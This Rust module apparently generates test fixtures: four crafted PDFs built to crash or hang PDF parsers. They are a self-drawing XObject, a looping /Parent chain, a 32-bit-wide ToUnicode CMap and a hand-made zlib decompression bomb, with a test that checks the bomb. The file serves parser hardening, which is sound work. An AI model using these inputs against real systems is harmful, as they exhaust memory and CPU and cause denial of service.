//! The four crafted PDFs that take PDF libraries down (issue 4): each is small and valid
//! enough to reach the part of the parser it attacks.

use lopdf::{dictionary, Document, Object, Stream};

fn save(mut doc: Document) -> Vec<u8> {
    let mut out = Vec::new();
    let _ = doc.save_to(&mut out);
    out
}

/// A font with a ToUnicode map over the whole 32-bit code space.
fn font_with_cmap(doc: &mut Document, cmap: &str) -> lopdf::ObjectId {
    let cmap = doc.add_object(Stream::new(dictionary! {}, cmap.as_bytes().to_vec()));
    doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica", "ToUnicode" => cmap,
    })
}

/// A plain content stream.
fn content(ops: &[u8]) -> Stream {
    Stream::new(dictionary! {}, ops.to_vec())
}

/// One page drawing `content` with `resources`, under a pages node.
fn one_page(doc: &mut Document, resources: Object, content: Stream) -> lopdf::ObjectId {
    let pages = doc.new_object_id();
    let content = doc.add_object(content);
    let page = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages, "Contents" => content, "Resources" => resources,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
    });
    doc.objects.insert(
        pages,
        Object::Dictionary(
            dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1 },
        ),
    );
    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages });
    doc.trailer.set("Root", catalog);
    page
}

/// A Form XObject that draws itself: unbounded recursion in the content interpreter.
pub fn self_drawing_xobject() -> Vec<u8> {
    let mut doc = Document::with_version("1.5");
    let form = doc.new_object_id();
    let resources = dictionary! { "XObject" => dictionary! { "X0" => form } };
    doc.objects.insert(
        form,
        Object::Stream(Stream::new(
            dictionary! {
                "Type" => "XObject", "Subtype" => "Form",
                "BBox" => vec![0.into(), 0.into(), 100.into(), 100.into()],
                "Resources" => resources.clone(),
            },
            b"/X0 Do".to_vec(),
        )),
    );
    one_page(&mut doc, resources.into(), content(b"/X0 Do"));
    save(doc)
}

/// A page whose /Parent chain loops back to itself: inherited attributes are looked up
/// forever.
pub fn parent_loop() -> Vec<u8> {
    let mut doc = Document::with_version("1.5");
    let font = font_with_cmap(&mut doc, "");
    let page = one_page(
        &mut doc,
        Object::Null,
        content(b"BT /F1 12 Tf 72 720 Td (Jane Doe) Tj ET"),
    );
    let middle = doc.add_object(dictionary! {
        "Type" => "Pages", "Parent" => page, "Kids" => vec![page.into()], "Count" => 1,
        "Resources" => dictionary! { "Font" => dictionary! { "F2" => font } },
    });
    if let Ok(Object::Dictionary(d)) = doc.get_object_mut(page) {
        d.set("Parent", middle);
        d.remove(b"Resources");
    }
    save(doc)
}

/// A ToUnicode CMap whose range covers the 32-bit space: a map of four billion entries.
pub fn tounicode_over_32_bits() -> Vec<u8> {
    let mut doc = Document::with_version("1.5");
    let font = font_with_cmap(
        &mut doc,
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n\
         1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange\n\
         1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange\n\
         endcmap CMapName currentdict /CMap defineresource pop end end",
    );
    let resources = dictionary! { "Font" => dictionary! { "F1" => font } };
    one_page(
        &mut doc,
        resources.into(),
        content(b"BT /F1 12 Tf 72 720 Td (Jane Doe) Tj ET"),
    );
    save(doc)
}

/// A content stream that inflates to `inflated` bytes of zeros from about
/// `inflated / 160` bytes: hand-made fixed-Huffman deflate, one literal then copies of
/// 258 bytes at distance 1, wrapped in zlib with the right checksum.
pub fn flate_bomb(inflated: u64) -> Vec<u8> {
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        n: u32,
    }
    impl Bits {
        // Deflate packs fields from the low bit; Huffman codes go in high bit first.
        fn put(&mut self, value: u64, len: u32) {
            self.acc |= value << self.n;
            self.n += len;
            while self.n >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.n -= 8;
            }
        }
        fn code(&mut self, code: u64, len: u32) {
            let reversed = (0..len).fold(0, |r, i| r | ((code >> i) & 1) << (len - 1 - i));
            self.put(reversed, len);
        }
    }
    let copies = inflated.saturating_sub(1) / 258;
    let mut bits = Bits {
        out: vec![0x78, 0x01],
        acc: 0,
        n: 0,
    };
    bits.put(1, 1); // last block
    bits.put(1, 2); // fixed Huffman
    bits.code(0b0011_0000, 8); // literal 0
    for _ in 0..copies {
        bits.code(0b1100_0101, 8); // length 258
        bits.code(0, 5); // distance 1
    }
    bits.code(0, 7); // end of block
    bits.put(0, 7); // flush to a byte
    let total = 1 + copies * 258;
    let adler = ((total % 65521) << 16) | 1;
    bits.out.extend_from_slice(&(adler as u32).to_be_bytes());
    let deflated = bits.out;
    let mut doc = Document::with_version("1.5");
    let stream =
        Stream::new(dictionary! { "Filter" => "FlateDecode" }, deflated).with_compression(false);
    one_page(&mut doc, Object::Null, stream);
    save(doc)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn the_flate_bomb_is_a_valid_zlib_stream_of_the_claimed_size() {
        let pdf = flate_bomb(1_000_000);
        let doc = Document::load_mem(&pdf).unwrap();
        let stream = doc
            .objects
            .values()
            .find_map(|o| o.as_stream().ok().filter(|s| s.dict.has(b"Filter")))
            .unwrap();
        let mut inflated = Vec::new();
        flate_decode(&stream.content)
            .read_to_end(&mut inflated)
            .unwrap();
        assert_eq!(inflated.len(), 1 + (999_999 / 258) * 258);
        assert!(inflated.iter().all(|b| *b == 0));
    }

    fn flate_decode(bytes: &[u8]) -> impl Read + '_ {
        flate2::read::ZlibDecoder::new(bytes)
    }
}
